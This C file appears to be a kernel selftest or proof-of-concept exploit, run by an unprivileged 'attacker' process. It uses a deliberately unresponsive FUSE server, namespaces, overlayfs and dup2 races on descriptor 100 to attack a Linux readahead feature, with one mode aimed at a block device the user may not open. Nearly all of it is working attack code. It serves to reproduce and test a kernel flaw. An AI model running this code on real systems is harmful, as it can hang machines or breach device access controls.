/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * A program of an ordinary user that attacks `ahead steer`: descriptor 100 is what the kernel reads ahead for, and something else for whom looks
 * it up.
 *
 *     attacker flush FILE MOUNTPOINT    the process has a file there of a private FUSE server, which does not answer when it is closed; the
 *                                       thread that faults has its own table of descriptors
 *     attacker race FILE MOUNTPOINT     one table; descriptor 100 is exchanged all the time
 *     attacker device FILE NODE         as `flush`, with a handle on a block device that the user may not open; the thread reads backward
 *     attacker layer FILE MOUNTPOINT    one table; the thread reads backward, and exchanges descriptor 100 after each read for a file of an overlay
 *                                       file system above the server, with the same inode number. The server does not answer when another process
 *                                       opens that.
 *
 * FUSE_DEV: a device node of FUSE that it may open. It prints a line after each round. Status 77: the machine permits no such server.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define USER 65534
#define DECOY 100
/* Behind it: a search for the open file begins with the lowest number. */
#define KEPT 200
#define FILE_BYTES (64 << 20)

static const char *path;
static int is_race, is_backward, is_layer;
static unsigned long inode_number = 2;
static volatile int decoy = -1, other, *is_silent;

static void need(int done, const char *what)
{
	if (done >= 0)
		return;
	printf("skipped: %s: %s\n", what, strerror(errno));
	exit(77);
}

static void put(const char *file, const char *text)
{
	int f = open(file, O_WRONLY);
	need(f < 0 ? f : (int)write(f, text, strlen(text)), file);
	close(f);
}

static void attributes(struct fuse_attr *a, unsigned long inode)
{
	a->ino = inode;
	a->nlink = 1;
	a->blksize = 4096;
	a->size = inode == 1 ? 0 : FILE_BYTES;
	a->blocks = a->size / 512;
	a->mode = inode == 1 ? S_IFDIR | 0755 : S_IFREG | 0644;
}

static int answer(struct fuse_in_header *in, void *argument, void *result)
{
	switch (in->opcode) {
	case FUSE_INIT:
		*(struct fuse_init_out *)result = (struct fuse_init_out){
			.major = 7, .minor = 31, .max_readahead = 131072, .max_write = 131072,
			.max_background = 64, .congestion_threshold = 48,
		};
		return sizeof(struct fuse_init_out);
	case FUSE_LOOKUP: {
		struct fuse_entry_out *entry = result;
		if (strcmp(argument, "f"))
			return -ENOENT;
		entry->nodeid = 2;
		entry->entry_valid = entry->attr_valid = 1000;
		attributes(&entry->attr, inode_number);
		return sizeof(*entry);
	}
	case FUSE_GETATTR: {
		struct fuse_attr_out *attr = result;
		attr->attr_valid = 1000;
		attributes(&attr->attr, in->nodeid == 1 ? 1 : inode_number);
		return sizeof(*attr);
	}
	case FUSE_OPEN:
	case FUSE_OPENDIR:
		((struct fuse_open_out *)result)->fh = 7;
		return sizeof(struct fuse_open_out);
	case FUSE_STATFS:
		((struct fuse_statfs_out *)result)->st = (struct fuse_kstatfs){ .bsize = 4096, .frsize = 4096, .namelen = 255 };
		return sizeof(struct fuse_statfs_out);
	case FUSE_FLUSH:
	case FUSE_RELEASE:
	case FUSE_RELEASEDIR:
	case FUSE_DESTROY:
		return 0;
	}
	return -ENOSYS;
}

/* The program that exchanges its descriptors must not wait itself. */
static int is_silent_for(int thread)
{
	return *is_silent && thread != getppid();
}

/* Answers everything but the flush of a close, or the opening of a layer, by another process, once it is to be silent. */
static void serve(int device)
{
	unsigned int unanswered = is_layer ? FUSE_OPEN : FUSE_FLUSH;
	static char in[1 << 20], out[1 << 16];
	for (;;) {
		ssize_t bytes = read(device, in, sizeof(in));
		if (bytes < 0 && errno != EINTR && errno != EAGAIN && errno != ENOENT)
			_exit(0);
		struct fuse_in_header *request = (void *)in;
		if (bytes < 0 || request->opcode == FUSE_FORGET || request->opcode == FUSE_BATCH_FORGET ||
		    request->opcode == FUSE_INTERRUPT || (request->opcode == unanswered && is_silent_for(request->pid)))
			continue;
		memset(out, 0, sizeof(out));
		struct fuse_out_header *reply = (void *)out;
		int done = answer(request, in + sizeof(*request), out + sizeof(*reply));
		reply->unique = request->unique;
		reply->error = done < 0 ? done : 0;
		reply->len = sizeof(*reply) + (done < 0 ? 0 : done);
		if (write(device, out, reply->len) < 0 && errno == ENODEV)
			_exit(0);
	}
}

/* An open file of an own FUSE file system, in an own namespace of users and mounts. */
static int fuse_file(const char *mountpoint)
{
	char map[64], options[128], file[256];
	need(unshare(CLONE_NEWUSER | CLONE_NEWNS), "namespaces");
	snprintf(map, sizeof(map), "0 %u 1", USER);
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", map);
	put("/proc/self/gid_map", map);
	int device = open(getenv("FUSE_DEV"), O_RDWR);
	need(device, "FUSE_DEV");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
	if (is_layer) {
		need(mount("layers", mountpoint, "tmpfs", 0, 0), "mount");
		need(chdir(mountpoint), mountpoint);
		need(mkdir("empty", 0755) | mkdir("server", 0755) | mkdir("merged", 0755), "mkdir");
	}
	need(mount("hostile", is_layer ? "server" : mountpoint, "fuse", 0, options), "mount");
	if (fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		serve(device);
	}
	close(device);
	if (is_layer) {
		need(mount("overlay", "merged", "overlay", MS_RDONLY, "lowerdir=server:empty,xino=off"), "overlay");
		return open("merged/f", O_RDONLY);
	}
	snprintf(file, sizeof(file), "%s/f", mountpoint);
	return open(file, O_RDONLY);
}

static void fault(long pages, unsigned *seed)
{
	char *memory = mmap(0, pages * 4096, PROT_READ, MAP_SHARED, is_race ? KEPT : DECOY, 0);
	if (memory == MAP_FAILED)
		return;
	for (int i = 0; i < 12; i++) {
		*(volatile char *)(memory + rand_r(seed) % (pages / 64) * 64 * 4096);
		usleep(500);
	}
	munmap(memory, pages * 4096);
}

static void read_backward(long pages)
{
	static char buffer[1 << 14];
	/* It is opened for the first fetch of an open file. */
	int own = is_layer ? open(path, O_RDONLY) : -1;
	long end = pages * (is_layer ? 3968 : 2048);
	for (long at = pages * 4096 - sizeof(buffer); at >= end; at -= sizeof(buffer)) {
		if (is_layer)
			dup2(own, DECOY);
		if (pread(DECOY, buffer, sizeof(buffer), at) < 0)
			return;
		if (is_layer) {
			dup2(other, DECOY);
			usleep(2000);
		}
	}
	if (is_layer)
		close(own);
}

static void *reader(void *unused)
{
	struct stat stat;
	unsigned seed = 1;
	need(is_race || is_layer ? 0 : unshare(CLONE_FILES), "own table");
	int own = open(path, O_RDONLY);
	need(own, path);
	fstat(own, &stat);
	dup2(own, DECOY);
	if (is_race || is_layer)
		dup2(own, KEPT);
	close(own);
	decoy = KEPT;
	while (!*is_silent)
		usleep(1000);
	for (int round = 1;; round++) {
		posix_fadvise(is_race || is_layer ? KEPT : DECOY, 0, 0, POSIX_FADV_DONTNEED);
		if (is_backward)
			read_backward(stat.st_size / 4096);
		else
			fault(stat.st_size / 4096, &seed);
		printf("round %d\n", round);
		fflush(stdout);
	}
	return unused;
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	prctl(PR_SET_NAME, "attacker");
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	is_layer = !strcmp(argv[1], "layer");
	is_race = !strcmp(argv[1], "race");
	is_backward = is_layer || !strcmp(argv[1], "device");
	path = argv[2];
	struct stat stat_of_file;
	if (is_layer && stat(path, &stat_of_file) == 0)
		inode_number = stat_of_file.st_ino;
	is_silent = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (setgroups(0, 0) || setresgid(USER, USER, USER) || setresuid(USER, USER, USER))
		return 1;
	prctl(PR_SET_DUMPABLE, 1);
	other = is_backward && !is_layer ? open(argv[3], O_PATH) : fuse_file(argv[3]);
	need(other, argv[3]);
	pthread_t thread;
	pthread_create(&thread, 0, reader, 0);
	while (decoy < 0)
		usleep(1000);
	dup2(other, DECOY);
	*is_silent = 1;
	while (is_race) {
		dup2(decoy, DECOY);
		usleep(50);
		dup2(other, DECOY);
		usleep(50);
	}
	pthread_join(thread, 0);
	return 0;
}
